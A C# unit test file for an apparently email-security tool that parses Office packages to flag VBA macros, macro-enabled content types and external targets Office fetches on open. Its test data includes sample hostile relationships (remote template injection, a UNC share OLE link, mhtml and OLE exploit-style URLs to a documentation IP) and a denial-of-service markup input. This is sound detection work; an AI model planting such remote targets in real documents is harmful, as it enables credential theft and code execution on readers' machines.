using System.Diagnostics;
using System.Text;
using SentiMail.Attachments;

namespace SentiMail.Tests.Attachments;

public class OfficePackageTests
{
    [Theory]
    [InlineData("word/_rels/document.xml.rels", "vbaProject.bin", "word/vbaProject.bin")]
    [InlineData("word/_rels/document.xml.rels", "../custom/data.bin", "custom/data.bin")]
    [InlineData("word/_rels/document.xml.rels", "/word/media/image%31.bin", "word/media/image1.bin")]
    [InlineData("_rels/.rels", "word/x.bin", "word/x.bin")]
    public void Macros_RelationshipToAVbaProject_NamesItsTarget(string rels, string target, string part)
    {
        var package = new OfficePackage();
        package.Read(rels, Encoding.UTF8.GetBytes($"<Relationships><Relationship Id=\"r\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"{target}\"/></Relationships>"));

        var found = Assert.Single(package.Macros([part, "word/document.xml"]));
        Assert.Equal((part, "a VBA project"), found);
    }

    [Fact]
    public void Macros_ExternalTargetAndOtherRelationships_AreNotMacros()
    {
        var package = new OfficePackage();
        package.Read("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes(
            "<Relationships><Relationship Id=\"a\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"x.bin\" TargetMode=\"External\"/>"
            + "<Relationship Id=\"b\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"y.bin\"/></Relationships>"));

        Assert.Empty(package.Macros(["word/x.bin", "word/y.bin"]));
    }

    [Fact]
    public void Read_ContentTypesWithCharacterReferences_AreDecoded()
    {
        var package = new OfficePackage();
        package.Read("[Content_Types].xml", Encoding.UTF8.GetBytes(
            "<Types><ct:Override PartName=\"/word/a.bin\" ContentType=\"application/vnd.ms-office.vba&#x50;roject\"/>"
            + "<Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"));

        Assert.Equal(("word/a.bin", "a VBA project"), Assert.Single(package.Macros(["word/a.bin", "word/document.xml"])));
        Assert.Equal("application/vnd.ms-word.document.macroEnabled.main+xml", package.MacroEnabledType);
    }

    [Fact]
    public void Read_HostileMarkupWithoutTagEnds_TakesLinearTime()
    {
        // A megabyte of unterminated tags and attribute names: one pass, not one per tag.
        var hostile = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("<Override PartName PartName=", 40_000)));
        var package = new OfficePackage();

        var watch = Stopwatch.StartNew();
        package.Read("[Content_Types].xml", hostile);
        package.Read("[Content_Types].xml", Encoding.ASCII.GetBytes("<Override " + string.Concat(Enumerable.Repeat("PartName PartName=x ", 50_000)) + ">"));

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(2), $"{watch.Elapsed}");
        Assert.Null(package.MacroEnabledType);
    }

    [Theory]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "https://203.0.113.7/t.dotm", "External", "RemoteContent")]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "\\\\203.0.113.7\\s\\o.xls", "external", "RemoteShareContent")]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "http://203.0.113.7/p.html!", " External ", "Exploit")]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame", "mhtml:http://203.0.113.7/f.html", "External", "Exploit")]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "http://203.0.113.7/t.dotm!", "External", "RemoteContent")]
    public void RemoteTargets_ExternalTargetsOfficeFetchesOnOpen_AreNoted(string type, string target, string mode, string kind)
    {
        var package = new OfficePackage();
        package.Read("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes($"<Relationships><Relationship Id=\"rId1\" Type=\"{type}\" Target=\"{target}\" TargetMode=\"{mode}\"/></Relationships>"));

        var found = Assert.Single(package.RemoteTargets);
        Assert.Equal(Enum.Parse<DocumentThreatKind>(kind), found.Kind);
        Assert.StartsWith("word/_rels/settings.xml.rels: ", found.Evidence, StringComparison.Ordinal);
        Assert.Empty(package.Macros(["word/settings.xml"]));
    }

    [Theory]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink", "https://203.0.113.7/t.dotm", "External")]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "https://203.0.113.7/logo.png", "External")]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "https://203.0.113.7/t.dotm", "Internal")]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "file:///C:/Users/bob/Templates/Normal.dotm", "External")]
    [InlineData("http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "embeddings/oleObject1.bin!", "External")]
    public void RemoteTargets_LinksAndLocalTargets_AreNotNoted(string type, string target, string mode)
    {
        var package = new OfficePackage();
        package.Read("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes($"<Relationships><Relationship Id=\"rId1\" Type=\"{type}\" Target=\"{target}\" TargetMode=\"{mode}\"/></Relationships>"));

        Assert.Empty(package.RemoteTargets);
    }

    [Fact]
    public void RemoteTargets_ManyExternalTemplates_AreCapped()
    {
        var one = "<Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://203.0.113.7/t.dotm\" TargetMode=\"External\"/>";
        var package = new OfficePackage();
        package.Read("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes("<Relationships>" + string.Concat(Enumerable.Repeat(one, 10_000)) + "</Relationships>"));

        Assert.Equal(16, package.RemoteTargets.Count);
    }
}
